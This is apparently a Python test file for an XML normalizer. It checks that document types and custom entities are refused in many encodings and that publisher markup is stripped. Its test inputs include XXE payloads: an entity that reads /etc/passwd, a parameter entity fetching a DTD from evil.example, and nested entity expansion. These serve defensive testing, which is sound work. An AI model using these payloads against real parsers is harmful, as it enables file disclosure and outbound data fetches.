"""XML of others: whatever the encoding, no document type slips through, and no entity of its own expands."""

from __future__ import annotations

import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from normalizer.values.markup import UnsafeXmlError, parse_xml, plain

ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-7", "cp037", "cp1252")  # fmt: skip
TEXTS = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cn"), exclude_characters="<&>"))
TRAPS = {
    "an entity": '<!DOCTYPE a [<!ENTITY b "boom">]>{}<a>&b;</a>',
    "entities in entities": '<!DOCTYPE a [<!ENTITY b "boom"><!ENTITY c "&b;&b;">]>{}<a>&c;</a>',
    "a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>{}<a>&b;</a>',
    "parameters": '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/boom.dtd"> %b;]>{}<a>boom</a>',
    "an attribute": '<!DOCTYPE a [<!ENTITY b "boom">]>{}<a c="&b;"/>',
}


@given(
    trap=st.sampled_from(list(TRAPS.values())), padding=TEXTS, encoding=st.sampled_from(ENCODINGS),
    declared=st.sampled_from(["", *ENCODINGS, "no-such-code"]), doctype=st.booleans(),
)  # fmt: skip
def test_no_entity_of_a_document_expands(trap: str, padding: str, encoding: str, declared: str, doctype: bool) -> None:
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    document = head + trap.format(f"<!--{padding.replace('-', '')}-->")
    with pytest.raises(ValueError):
        parse_xml(document.encode(encoding, "replace"), doctype=doctype)


@given(TEXTS, st.sampled_from([*ENCODINGS]))
def test_document_type_is_refused_in_every_encoding(text: str, encoding: str) -> None:
    with pytest.raises(ValueError):
        parse_xml(f"<!DOCTYPE a><a>{text}</a>".encode(encoding, "replace"))


@given(TEXTS)
def test_text_comes_back(text: str) -> None:
    expected = text.replace("\r\n", "\n").replace("\r", "\n")
    for document in (f"<a>{text}</a>".encode(), codecs.BOM_UTF8 + f"<a>{text}</a>".encode()):
        assert (parse_xml(document).text or "") == expected


def test_document_type_may_be_allowed_with_the_entities_of_html() -> None:
    document = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE a SYSTEM "a.dtd"><a>B&ouml;hlen \xe4 &amp; &#955;</a>'
    )
    assert parse_xml(document, doctype=True).text == "Böhlen ä & λ"
    with pytest.raises(UnsafeXmlError):
        parse_xml(document)


@pytest.mark.parametrize(
    "body", [b"", b"<a>", b"<a>&nosuch;</a>", b"text", b"<a/><b/>", b"\0", "<a/>".encode("utf-16")]
)
def test_what_is_no_whole_document_is_an_error(body: bytes) -> None:
    with pytest.raises(ValueError):
        parse_xml(body, doctype=True)


def test_control_characters_of_pasted_text_are_dropped() -> None:
    assert parse_xml(b"<a>one\x02 two\x1f</a>").text == "one two"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("oscillations of $\\nu_\\tau$ and $\\nabla^2$", "oscillations of $\\nu_\\tau$ and $\\nabla^2$"),
        ("one line\\nand another", "one line and another"),
        ("H&lt;sub&gt;2&lt;/sub&gt;O in <jats:italic>E. coli</jats:italic> &amp;amp; more", "H2O in E. coli & more"),
        ("if a<b and c>d", "if a<b and c>d"),
    ],
)
def test_markup_of_publishers_is_dropped_and_tex_stays(text: str, expected: str) -> None:
    assert plain(text) == expected
